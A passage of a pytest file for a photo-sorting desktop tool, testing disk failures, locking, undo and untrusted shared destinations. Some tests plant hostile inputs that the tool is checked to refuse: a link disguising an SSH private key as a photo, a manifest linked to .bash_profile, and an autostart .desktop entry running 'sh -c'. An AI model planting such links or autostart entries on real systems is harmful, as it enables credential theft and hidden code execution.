    assert list(dest.iterdir()) == [] and len(list(photos.iterdir())) == 12


def test_a_manifest_of_only_a_byte_order_mark_gets_its_header(engine, tmp_path) -> None:
    dest = tmp_path / "sorted"
    dest.mkdir()
    (dest / MANIFEST_FILE).write_bytes(b"\xef\xbb\xbf")  # saved empty by an editor
    done = sorted_once(engine, tmp_path, move=True)
    assert len(manifest_rows(done.dest)) == len(done.before)
    assert not undo_sort(done.dest).failed
    assert {p.name: digest(p) for p in done.photos.iterdir()} == done.before


def test_a_destination_full_before_the_first_row_stops_cleanly(engine, tmp_path, monkeypatch):
    photos = photo_folder(tmp_path / "photos")
    real_write = sort_manifest.os.write

    def full(fd, data):
        if bytes(data).startswith(b"source,destination"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(sort_manifest.os, "write", full)
    with pytest.raises(SortError, match="the destination is full"):
        sort_into(classified(engine, photos), tmp_path / "sorted", list(CLASS_NAMES), THRESHOLD)
    assert files_under(tmp_path / "sorted") == [] and len(list(photos.iterdir())) == 12


def test_a_windows_stick_without_hard_links_gets_copies(engine, tmp_path, monkeypatch) -> None:
    def fat_on_windows(*_args, **_kwargs):
        # What Windows says on FAT or exFAT: ERROR_INVALID_FUNCTION, which Python maps to
        # EINVAL, a code that is not "no hard links" anywhere else.
        refused = OSError(errno.EINVAL, "Incorrect function")
        refused.winerror = 1
        raise refused

    monkeypatch.setattr(file_placing.os, "link", fat_on_windows)
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    report = sort_into(classified(engine, photos), tmp_path / "s", list(CLASS_NAMES), THRESHOLD)
    assert not report.failed and len(report.filed) == len(before)
    assert sorted(digest(p) for p in files_under(tmp_path / "s")) == sorted(before.values())


def test_two_photos_of_one_name_moved_to_a_stick_without_hard_links_are_both_kept(
    engine, tmp_path, monkeypatch
) -> None:
    # On FAT or exFAT a copy takes its name by an exclusive create, then a rename over it:
    # the second camera's IMG_1.png must get "IMG_1 (2).png", never replace the first,
    # whose original the move has already deleted.
    no_hard_links(monkeypatch)
    first, second = tmp_path / "cam1", tmp_path / "cam2"
    first.mkdir()
    second.mkdir()
    one = digest(write_solid(first / "IMG_1.png", PROTOTYPE_COLOURS["Battery"]))
    two = digest(write_solid(second / "IMG_1.png", PROTOTYPE_COLOURS["Battery"], size=(40, 40)))
    dest = tmp_path / "stick"
    rows = classified(engine, first) + classified(engine, second)

    report = sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)

    assert not report.failed and len(report.filed) == 2
    assert not (first / "IMG_1.png").exists() and not (second / "IMG_1.png").exists()
    assert digest(dest / "Battery" / "IMG_1.png") == one
    assert digest(dest / "Battery" / "IMG_1 (2).png") == two


def test_a_copy_whose_bytes_differ_from_the_photo_fails_and_the_original_stays(
    engine, tmp_path, monkeypatch
) -> None:
    # A failing stick: the copy's bytes read back differ from the photo's. A move must not
    # delete the original for it, nor leave the bad copy under the photo's name.
    no_hard_links(monkeypatch)
    real_copy = shutil.copyfileobj

    def corrupting(reader, writer, length):
        real_copy(reader, writer, length)
        reader.seek(40)
        flipped = reader.read(1)[0] ^ 0xFF
        writer.seek(40)
        writer.write(bytes([flipped]))

    monkeypatch.setattr(file_placing.shutil, "copyfileobj", corrupting)
    card, dest = tmp_path / "card", tmp_path / "stick"
    card.mkdir()
    photo = write_solid(card / "item.png", PROTOTYPE_COLOURS["Battery"])
    before = digest(photo)

    report = sort_into(classified(engine, card), dest, list(CLASS_NAMES), THRESHOLD, move=True)

    [(source, reason)] = report.failed
    assert source == str(photo) and "differs" in reason and not report.filed
    assert digest(photo) == before
    assert files_under(dest) == []  # nor under a temporary name


def test_a_copy_on_a_stick_without_hard_links_keeps_the_photos_modified_time(
    engine, tmp_path, monkeypatch
) -> None:
    # The modified time is often the only "when was it taken" a PNG carries; a copy sort
    # must carry it over, not stamp the copy with the time of the sort.
    no_hard_links(monkeypatch)
    card, dest = tmp_path / "card", tmp_path / "stick"
    card.mkdir()
    photo = write_solid(card / "item.png", PROTOTYPE_COLOURS["Battery"])
    taken = 1_600_000_000 * 10**9  # September 2020
    os.utime(photo, ns=(taken, taken))

    report = sort_into(classified(engine, card), dest, list(CLASS_NAMES), THRESHOLD)

    assert not report.failed and photo.is_file()
    assert (dest / "Battery" / "item.png").stat().st_mtime_ns == taken


def test_a_file_that_is_not_a_photo_is_never_sorted(engine, tmp_path) -> None:
    # A results CSV reopened in the app may have been edited to name any file as "ok".
    key = tmp_path / "home" / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    photos = photo_folder(tmp_path / "photos")
    [sure] = [p for p in classified(engine, photos) if p.path.endswith("battery.png")]
    dest = tmp_path / "share"
    report = sort_into([replace(sure, path=str(key))], dest, list(CLASS_NAMES), THRESHOLD)
    assert report.failed == [(str(key), "not a photo file: only photos are sorted")]
    assert files_under(dest) == [] and key.is_file()


def test_a_link_named_as_a_photo_is_never_sorted(engine, tmp_path) -> None:
    key = tmp_path / "home" / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    photos = photo_folder(tmp_path / "photos")
    disguised = photos / "IMG_0001.jpg"
    disguised.symlink_to(key)
    [sure] = [p for p in classified(engine, photos) if p.path.endswith("battery.png")]
    for move in (False, True):
        dest = tmp_path / f"share-{move}"
        rows = [replace(sure, path=str(disguised))]
        report = sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=move)
        reason = "a link, not a photo file: only photos are sorted"
        assert report.failed == [(str(disguised), reason)]
        assert files_under(dest) == [] and disguised.is_symlink()


def test_a_manifest_that_fails_for_any_reason_stops_with_what_was_done(
    engine, tmp_path, monkeypatch
):
    # A stick pulled out mid-sort: the append fails with EIO, not a full disk. The photos
    # moved by then are elsewhere, and the report must say so, for the app's rows.
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    predictions = classified(engine, photos)
    dest = tmp_path / "sorted"
    added = manifest_fails_after(monkeypatch, 2, errno.EIO)
    with pytest.raises(SortError) as e:
        sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    manifest = dest.resolve() / MANIFEST_FILE  # the failing file named: not a photo's
    assert f"after 2 photos ({os.strerror(errno.EIO)}: {manifest}); " in str(e.value)
    monkeypatch.undo()
    assert [f.destination for f in e.value.report.filed] == [f.destination for f in added]
    assert all(Path(f.destination).is_file() and not Path(f.source).exists() for f in added)

    # The same sort again finishes; the undo puts every photo back.
    report = sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert len(report.skipped) == 2 and not report.failed
    assert not undo_sort(dest).failed
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_a_sort_and_an_undo_asked_to_stop_end_between_photos_and_finish_later(
    engine, tmp_path
) -> None:
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    predictions = classified(engine, photos)
    dest = tmp_path / "sorted"
    with pytest.raises(SortStopped, match="no photo filed yet: sort again to start$"):
        sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, should_stop=lambda: True)
    taken: list[Prediction] = []

    def counted() -> Iterator[Prediction]:
        for prediction in predictions:
            taken.append(prediction)
            yield prediction

    def stop_after_two() -> bool:  # asked with the third photo in hand
        return len(taken) > 2

    with pytest.raises(
        SortError, match="2 photos filed, each whole and in the manifest"
    ) as stopped:
        sort_into(counted(), dest, list(CLASS_NAMES), THRESHOLD, move=True,
                  should_stop=stop_after_two)  # fmt: skip
    assert len(stopped.value.report.filed) == 2 and len(manifest_rows(dest)) == 2
    assert len(list(photos.iterdir())) == len(before) - 2
    sort_into(predictions, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert list(photos.iterdir()) == []

    asked = iter(range(len(before)))  # asked before each photo: the fourth is not put back
    with pytest.raises(SortError, match="3 photos put back; undo again") as stopped:
        undo_sort(dest, should_stop=lambda: next(asked) == 3)
    assert len(stopped.value.report.filed) == 3
    assert len(manifest_rows(dest)) == len(before) - 3  # the rest, for the next undo
    assert len(manifest_rows(dest, UNDONE_MANIFEST_FILE)) == 3
    assert len(list(photos.iterdir())) == 3
    assert len(undo_sort(dest).filed) == len(before) - 3
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_a_stopped_undo_of_a_copy_sort_says_it_deleted_the_copies(engine, tmp_path) -> None:
    # "3 photos put back" alone would tell the worker three originals came home, when the
    # undo deleted three copies and the originals never left.
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)
    asked = iter(range(100))
    with pytest.raises(SortStopped) as stopped:
        undo_sort(dest, should_stop=lambda: next(asked) == 3)
    assert str(stopped.value) == (
        "3 photos put back; all copies, deleted: the originals never moved; "
        "undo again to put back the rest"
    )


def test_an_undo_that_cannot_record_what_it_did_says_what_is_back(
    engine, tmp_path, monkeypatch, capsys
) -> None:
    # The destination full (what the sort's own message says to fix by undoing): every
    # photo goes back, then the manifests cannot be rewritten.
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)

    def full(*_args, **_kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(sort_undo, "write_manifest", full)
    expected = f"put back {len(before)} photos but could not record it"
    with pytest.raises(SortError, match=expected) as e:
        undo_sort(dest)
    assert sorted(Path(f.source).name for f in e.value.report.filed) == sorted(before)
    assert {p.name: digest(p) for p in photos.iterdir()} == before
    # The command says so, as a write that failed (1), not as a usage error (2).
    assert classify_main(["--undo-sort", str(dest)]) == 1
    assert expected in capsys.readouterr().err
    monkeypatch.undo()
    # A second undo finds them back and records it.
    assert not undo_sort(dest).failed and not (dest / MANIFEST_FILE).exists()
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def hold_lock_in_another_process(dest: Path) -> subprocess.Popen:
    """A second program holding `dest`'s lock, as a sort or undo in progress does."""
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys; from pathlib import Path; from desktop.core.folder_lock import FolderLock;"
            f"assert FolderLock(Path({str(dest)!r})).acquire(); print('held', flush=True);"
            "sys.stdin.read()",
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert holder.stdout.readline() == "held\n"
    return holder


def test_a_destination_another_program_works_in_is_refused_until_it_is_done(
    engine, tmp_path, capsys, monkeypatch
) -> None:
    monkeypatch.setattr("desktop.core.cli.BUSY_GIVE_UP_SECONDS", 0.5)  # not a minute here
    photos = photo_folder(tmp_path / "photos")
    rows = classified(engine, photos)
    dest = tmp_path / "sorted"
    dest.mkdir()
    holder = hold_lock_in_another_process(dest)
    try:
        with pytest.raises(SortError, match="another sort or undo is working in") as refused:
            sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)
        assert refused.value.report is None
        assert len(list(photos.iterdir())) == len(rows)  # nothing moved
        assert not (dest / MANIFEST_FILE).exists()
    finally:
        holder.kill()  # even a killed holder's lock goes with it
        holder.wait()
    report = sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert len(report.filed) == len(rows) and list(photos.iterdir()) == []
    assert not (dest / LOCK_FILE).exists()  # nothing of the lock left in the user's folder

    holder = hold_lock_in_another_process(dest)
    try:
        with pytest.raises(SortError, match="another sort or undo is working in"):
            undo_sort(dest)
        assert list(photos.iterdir()) == []
        # The command says so before classifying anything (its CSV is not written).
        command = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest)]
        assert classify_main([*command, "--model", str(engine.model_path)]) == 2
        err = capsys.readouterr().err
        assert "another sort or undo is working in" in err and "still after 0.5 s" in err
        assert not (tmp_path / "r.csv").exists()
    finally:
        holder.stdin.close()  # a holder done as usual
        holder.wait()
    assert len(undo_sort(dest).filed) == len(rows)
    assert len(list(photos.iterdir())) == len(rows)


def test_a_sort_told_to_wait_for_a_busy_destination_files_once_it_is_free(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    dest.mkdir()
    other = FolderLock(dest)  # a second open of the file: it excludes as another program's
    assert other.acquire()
    said = []

    def told(message: str) -> None:
        said.append(message)
        other.release()  # the other sort ends while this one waits

    report = sort_into(
        classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, wait_if_busy=told
    )
    assert said == [
        f"another sort or undo is working in {dest.resolve()} (this app, ewaste-classify or a "
        "watch); waiting for it to finish"
    ]
    assert len(report.filed) == len(list(photos.iterdir()))


def test_a_one_time_sort_and_undo_wait_out_a_watchs_moment_in_their_destination(
    engine, tmp_path, capsys
) -> None:
    # A watch holds DEST's lock for a moment at each batch: a cron job's sort or undo that
    # started in that moment failed (exit 2, nothing sorted) instead of waiting it out.
    import threading

    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    dest.mkdir()
    command = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest)]
    for args in (
        [*command, "--move", "--model", str(engine.model_path)],
        ["--undo-sort", str(dest)],
    ):
        watch_moment = FolderLock(dest)
        assert watch_moment.acquire()
        threading.Timer(1.0, watch_moment.release).start()
        assert classify_main(args) == 0
        assert "waiting for it to finish" in capsys.readouterr().err
    assert len(list(photos.iterdir())) == 12  # moved into DEST, then put back


def test_an_undo_waiting_for_a_busy_destination_stops_when_asked(engine, tmp_path) -> None:
    # Ctrl+C during the minute's wait went unheard, and then the undo exited as refused.
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    other = FolderLock(dest)
    assert other.acquire()
    asked = []
    try:
        with pytest.raises(SortStopped, match="nothing done: it was waiting for another sort"):
            undo_sort(
                dest,
                should_stop=lambda: asked.append(None) or len(asked) > 2,
                wait_if_busy=lambda _message: None,
                give_up_s=60,
            )
    finally:
        other.release()
    assert list(photos.iterdir()) == [] and len(asked) == 3  # stopped at the third look


def test_a_lock_let_go_while_a_sort_waited_is_taken_on_the_folders_file(tmp_path) -> None:
    # A waiter may open the lock file just before its holder deletes it: it then locks a
    # deleted file, and must open the folder's file again, or a third sort would get in.
    from desktop.core import folder_lock

    first, second, third = (FolderLock(tmp_path) for _ in range(3))
    assert first.acquire()
    real_lock = folder_lock._lock

    def holder_done_meanwhile(fd: int) -> None:
        first.release()  # deletes the file this waiter has just opened, then unlocks
        folder_lock._lock = real_lock
        real_lock(fd)

    folder_lock._lock = holder_done_meanwhile
    try:
        assert second.acquire()
    finally:
        folder_lock._lock = real_lock
    assert (tmp_path / LOCK_FILE).exists() and not third.acquire()
    second.release()
    assert third.acquire() and not (tmp_path / LOCK_FILE).stat().st_size
    third.release()
    assert not (tmp_path / LOCK_FILE).exists()


def test_a_lock_file_another_user_left_is_no_obstacle(engine, tmp_path, monkeypatch) -> None:
    # A sort killed by another user leaves the file theirs (mode 0644): this user can still
    # lock it, reading it only. (The kernel's check, which root skips, done here.)
    from desktop.core import folder_lock

    dest = tmp_path / "sorted"
    dest.mkdir()
    (dest / LOCK_FILE).touch(mode=0o444)
    real_open = os.open

    def as_another_user(path, flags, *args):
        if Path(path).exists() and flags & (os.O_WRONLY | os.O_RDWR):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, flags, *args)

    monkeypatch.setattr(folder_lock.os, "open", as_another_user)
    assert FolderLock(dest).acquire()


def test_a_destination_without_locks_is_sorted_and_other_lock_errors_are_said(
    engine, tmp_path, monkeypatch
) -> None:
    from desktop.core import folder_lock

    photos = photo_folder(tmp_path / "photos")
    rows = classified(engine, photos)

    def flock_failing(code: int):
        def flock(fd, operation):
            raise OSError(code, os.strerror(code))

        return flock

    dest = tmp_path / "share-without-locks"
    monkeypatch.setattr(folder_lock.fcntl, "flock", flock_failing(errno.ENOLCK))
    assert len(sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD).filed) == len(rows)
    assert not (dest / LOCK_FILE).exists()  # unlocked, and nothing of it left

    stale = tmp_path / "stale-share"
    monkeypatch.setattr(folder_lock.fcntl, "flock", flock_failing(errno.ESTALE))
    said = re.escape(f"stale-share: {os.strerror(errno.ESTALE)}")  # as the system words it
    with pytest.raises(SortError, match=f"cannot write to .*{said}"):
        sort_into(rows, stale, list(CLASS_NAMES), THRESHOLD)
    assert not (stale / MANIFEST_FILE).exists() and not list(stale.rglob("*.png"))


@pytest.mark.parametrize("mount_point_left", [True, False])
def test_a_destination_pulled_out_mid_sort_stops_it_and_makes_nothing(
    engine, tmp_path, mount_point_left
) -> None:
    # The stick goes after two photos: its folder is gone, or an empty mount point is left
    # in its place. Photos filed on would land on the station's own disk, hidden under the
    # mount point once the stick is back, and a move would delete their sources.
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    dest, stick = tmp_path / "sorted", tmp_path / "stick-in-a-drawer"
    asked = []

    def pulled_out_before_the_third() -> bool:  # asked before each photo
        asked.append(True)
        if len(asked) == 3:
            dest.rename(stick)
            if mount_point_left:
                dest.mkdir()
        return False

    rows = classified(engine, photos)
    with pytest.raises(SortError, match=r"went away during the sort .* after 2 photos") as e:
        sort_into(
            rows, dest, list(CLASS_NAMES), THRESHOLD, move=True,
            should_stop=pulled_out_before_the_third,
        )  # fmt: skip
    assert len(e.value.report.filed) == 2
    # Nothing was made where the stick was, and every photo is whole: two on the stick (and
    # in its manifest), the rest still in their folder.
    assert not dest.exists() or list(dest.iterdir()) == []
    assert len(manifest_rows(stick)) == 2
    on_stick = {p.name: digest(p) for p in files_under(stick) if not p.name.startswith(".")}
    assert len(on_stick) == 2
    assert {p.name: digest(p) for p in photos.iterdir()} | on_stick == before


@pytest.mark.parametrize(
    ("stop", "times", "at_once"),
    [
        ("SIGINT", 1, False),
        ("SIGTERM", 2, False),
        ("SIGHUP", 2, False),  # a closed terminal sends SIGHUP twice
        ("SIGINT", 2, True),  # a person pressing Ctrl-C again: a slow photo is not waited for
    ],
)
def test_a_stop_during_the_commands_undo_ends_it_between_photos_or_at_once(
    engine, tmp_path, monkeypatch, capsys, stop, times, at_once
) -> None:
    signum = getattr(signal, stop)
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    real_undo_one, done = sort_undo._undo_one, []

    def stop_at_the_third(*args):
        if len(done) == 2:
            for _ in range(times):
                os.kill(os.getpid(), signum)
        done.append(real_undo_one(*args))
        return done[-1]

    monkeypatch.setattr(sort_undo, "_undo_one", stop_at_the_third)
    with deliverable(signum):
        assert classify_main(["--undo-sort", str(dest)]) == 128 + signum
    said = capsys.readouterr().err
    if at_once:  # stopped in the third photo: nothing recorded, the next undo finds them
        assert f"stopped by {stop} while putting photos back; run --undo-sort again" in said
        assert len(done) == 2 and len(list(photos.iterdir())) == 2
    else:  # the third photo finished, then the undo recorded and counted what went back
        assert f"stopped by {stop}: 3 photos put back; undo again to put back the rest" in said
        assert len(list(photos.iterdir())) == 3
        assert len(manifest_rows(dest, UNDONE_MANIFEST_FILE)) == 3
    monkeypatch.setattr(sort_undo, "_undo_one", real_undo_one)
    assert classify_main(["--undo-sort", str(dest)]) == 0
    if not at_once:
        assert f"put back 9 photos from {dest}" in capsys.readouterr().out
    assert len(list(photos.iterdir())) == 12


def test_a_sort_again_by_another_threshold_says_which_photos_it_left_where_they_are(
    engine, tmp_path, tiny_model_path, capsys
) -> None:
    # Only a person's class moves a photo filed before: a stricter threshold leaves the
    # photos it now doubts in their class folders, and the command says so, and what to do.
    photos = photo_folder(tmp_path / "photos")
    dest, out = tmp_path / "sorted", tmp_path / "r.csv"
    argv = [str(photos), "--csv", str(out), "--sort-into", str(dest)]
    argv += ["--model", str(tiny_model_path)]
    assert classify_main(argv) == 0
    capsys.readouterr()
    assert classify_main([*argv, "--review-threshold", "0.9999"]) == 0
    said = capsys.readouterr().out
    with open(out, newline="", encoding="utf-8-sig") as handle:
        doubted = [Path(r["path"]).name for r in csv.DictReader(handle) if r["status"] == "review"]
    left = [name for name in doubted if not (dest / REVIEW_FOLDER / name).is_file()]
    assert left and all(len(list(dest.glob(f"*/{name}"))) == 1 for name in left)
    assert (
        f"12 already there from an earlier sort ({len(left)} of them in another folder than "
        "this sort would choose: only a class set in the app moves a photo filed before)"
    ) in said


def test_a_folder_that_cannot_be_written_in_is_named_not_the_photo(
    engine, tmp_path, monkeypatch
) -> None:
    # A class folder made read-only by hand (the tests run as root, which ignores modes:
    # the system's refusal is played), then an undo into a write-protected card.
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    real_place = file_placing._place

    def refused_in(folder: Path):
        def place(source, wanted, *args):
            if wanted.parent == folder:
                temporary = wanted.with_name(".0123456789ab.sorting.tmp")
                raise PermissionError(errno.EACCES, "Permission denied", str(temporary))
            return real_place(source, wanted, *args)

        return place

    monkeypatch.setattr(file_placing, "_place", refused_in(dest / "Keyboard"))
    report = sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    [(source, reason)] = report.failed
    assert source == str(photos / "keyboard.png")
    assert reason == f"cannot write in {dest / 'Keyboard'} (permission denied)"

    monkeypatch.setattr(file_placing, "_place", refused_in(photos))
    report = undo_sort(dest)
    assert {why for _, why in report.failed} == {f"cannot write in {photos} (permission denied)"}


def test_a_stop_as_a_copy_takes_its_name_leaves_no_empty_file_there(tmp_path, monkeypatch) -> None:
    # A card without hard links: the name is claimed by an empty file, then the copy moves
    # over it. A second Ctrl-C between the two left the empty file under the photo's name.
    from desktop.core.file_placing import place

    no_hard_links(monkeypatch)
    source = write_solid(tmp_path / "photo.png", PROTOTYPE_COLOURS["Mouse"])
    card = tmp_path / "card"
    card.mkdir()

    def stopped(*_args):
        raise KeyboardInterrupt

    monkeypatch.setattr(file_placing.os, "replace", stopped)
    with pytest.raises(KeyboardInterrupt):
        place(source, card / "photo.png")
    assert list(card.iterdir()) == []  # nor the copy, under its temporary name
    monkeypatch.undo()
    no_hard_links(monkeypatch)
    assert place(source, card / "photo.png") == card / "photo.png"


def test_a_destination_pulled_out_under_a_photo_fails_the_sort_not_the_photo(
    engine, tmp_path
) -> None:
    # The stick goes while the third photo is being filed: that photo is still in its
    # folder, and the sort says the destination went, not that the photo "failed".
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    real_file_one, calls = sorting._file_one, []

    def pulled_out_at_the_third(*args):
        calls.append(args)
        if len(calls) == 3:
            dest.rename(tmp_path / "stick-in-a-drawer")
        return real_file_one(*args)

    rows = classified(engine, photos)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sorting, "_file_one", pulled_out_at_the_third)
        with pytest.raises(SortError, match="went away during the sort") as e:
            sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert len(e.value.report.filed) == 2 and e.value.report.failed == []
    assert len(list(photos.iterdir())) == len(rows) - 2


# -- A destination anyone may write to (a share, a stick): its files are not trusted. ------


def add_manifest_row(dest: Path, source: Path, destination: Path, action: str) -> None:
    """A row edited into DEST's manifest by someone else, the file it names put in place."""
    with open(dest / MANIFEST_FILE, "a", newline="", encoding="utf-8") as handle:
        row = [source, destination, "Mouse", "ok", digest(destination), action]
        csv.writer(handle).writerow(map(str, row))


def test_a_link_planted_as_the_manifest_is_never_written_through(engine, tmp_path) -> None:
    # A dangling link named manifest.csv: the sort would create the file it names (a login
    # script in the station user's home, say) and write the photos' names into it.
    photos, dest, home = photo_folder(tmp_path / "photos"), tmp_path / "share", tmp_path / "home"
    dest.mkdir()
    home.mkdir()
    (dest / MANIFEST_FILE).symlink_to(home / ".bash_profile")
    with pytest.raises(SortError, match=r"manifest.csv is a link, not a sort's manifest"):
        sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)
    assert list(home.iterdir()) == [] and files_under(dest) == []
    # A second name of another file (a hard link): said how to make it one of its own.
    (dest / MANIFEST_FILE).unlink()
    kept = tmp_path / "kept.csv"
    kept.write_text(",".join(sort_manifest.MANIFEST_COLUMNS) + "\r\n", encoding="utf-8")
    os.link(kept, dest / MANIFEST_FILE)
    with pytest.raises(SortError, match="a hard link.*copy it, and put the copy in its place"):
        sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD)
    assert kept.read_text(encoding="utf-8").count("\n") == 1  # nothing written through it
    # One leading to rows kept elsewhere: an undo reads none of them.
    crafted = tmp_path / "rows.csv"
    crafted.write_text(",".join(sort_manifest.MANIFEST_COLUMNS) + "\r\n", encoding="utf-8")
    (dest / MANIFEST_FILE).unlink()
    (dest / MANIFEST_FILE).symlink_to(crafted)
    with pytest.raises(SortError, match=r"manifest.csv is a link, not a sort's manifest"):
        undo_sort(dest)


def test_an_undo_acts_only_on_photos_in_dests_own_class_folders(engine, tmp_path) -> None:
    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "stick"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    home, outside = tmp_path / "home", tmp_path / "outside"
    home.mkdir()
    outside.mkdir()
    # 1. A script "put back" into a start-up folder of the station user's: not a photo.
    script = dest / "Mouse" / "update.desktop"
    script.write_text("[Desktop Entry]\nExec=sh -c 'id > /tmp/owned'\n")
    startup = home / ".config" / "autostart" / "update.desktop"
    add_manifest_row(dest, startup, script, "move")
    # 2. A file beside DEST, "deleted as a copy" through "..": not in a class folder.
    beside = tmp_path / "notes.jpg"
    beside.write_bytes(b"the worker's own notes")
    add_manifest_row(dest, photos / "notes.jpg", dest / ".." / "notes.jpg", "copy")
    # 3. A photo "moved back" from a class folder that is a link to another folder.
    (dest / "Elsewhere").symlink_to(outside, target_is_directory=True)
    kept = outside / "kept.jpg"
    kept.write_bytes(b"a photo of someone else's")
    add_manifest_row(dest, home / "kept.jpg", dest / "Elsewhere" / "kept.jpg", "move")

    report = undo_sort(dest)

    assert not startup.parent.exists() and script.is_file()
    assert beside.read_bytes() == b"the worker's own notes"
    assert kept.is_file() and not (home / "kept.jpg").exists()
    assert len(report.filed) == 12  # the sort's own photos, all back
    assert len(list(photos.iterdir())) == 12
    assert len(manifest_rows(dest)) == 3  # the three rows, left for a person to look at
    assert [why.split(" ", 2)[2] for _, why in report.failed] == [sort_manifest.OUTSIDE_DEST] * 3


def test_half_made_copies_a_kill_left_go_with_the_next_sort_or_undo(engine, tmp_path, monkeypatch):
    # kill -9 or a power cut mid-copy leaves a hidden temporary copy: in a class folder
    # (a sort), or beside the photos (an undo putting one back across file systems).
    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "sorted"
    (dest / "Mouse").mkdir(parents=True)
    sorts_leftover = dest / "Mouse" / ".0123456789ab.sorting.tmp"
    sorts_leftover.write_bytes(b"half a photo")
    someone_elses = dest / "Mouse" / ".notes.sorting.tmp"  # not a name the sort gives
    someone_elses.write_bytes(b"kept")
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert not sorts_leftover.exists() and someone_elses.is_file()

    # Beside the photos, where another DEST's undo may be copying now, only an idle one.
    undos_leftover = photos / ".abcdef012345.sorting.tmp"
    undos_leftover.write_bytes(b"half a photo")
    (dest / "Battery" / ".fedcba987654.sorting.tmp").write_bytes(b"half a photo")
    undo_sort(dest)
    assert undos_leftover.is_file()  # written a moment ago: maybe a copy being made
    assert not (dest / "Battery").exists()  # emptied, the leftover gone with it
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    monkeypatch.setattr(sort_undo, "LEFTOVER_IDLE_S", 0.0)  # an hour on
    undo_sort(dest)
    assert not undos_leftover.exists() and len(list(photos.iterdir())) == 12


def test_a_sort_that_failed_midway_sweeps_its_half_made_copies_next_time(
    engine, tmp_path, monkeypatch
) -> None:
    # A stick pulled out mid-copy may leave a copy its sort could not delete: the same
    # process's next sort into it must still clear it (a sort sweeps once a process).
    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "sorted"
    rows = classified(engine, photos)
    with monkeypatch.context() as patched:
        manifest_fails_after(patched, 3, errno.EIO)
        with pytest.raises(SortError):
            sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD)
    leftover = dest / "Mouse" / ".0123456789ab.sorting.tmp"
    leftover.parent.mkdir(exist_ok=True)
    leftover.write_bytes(b"half a photo")
    sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD)
    assert not leftover.exists()


def test_a_name_a_fat_stick_refuses_is_said_so_with_the_way_out(engine, tmp_path, monkeypatch):
    # On a FAT or exFAT stick, "13:05.jpg" is refused as an "Invalid argument", which reads
    # like a fault of the program, not of the name.
    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "stick"
    (photos / "mouse.png").rename(photos / "mouse 13:05.png")
    real_place = file_placing._place

    def like_fat(source, wanted, *args):
        if "printer" in wanted.name:  # its temporary copy refused: not the name's fault
            raise OSError(
                errno.EPERM, "Operation not permitted", "/stick/.a1b2c3d4e5f6.sorting.tmp"
            )
        if ":" in wanted.name:  # as os.link says it: from the copy to the name refused
            raise OSError(
                errno.EINVAL,
                "Invalid argument",
                "/stick/.0123456789ab.sorting.tmp",
                None,
                str(wanted),
            )
        return real_place(source, wanted, *args)

    monkeypatch.setattr(file_placing, "_place", like_fat)
    (photos / "printer.png").rename(photos / "printer 13:06.png")
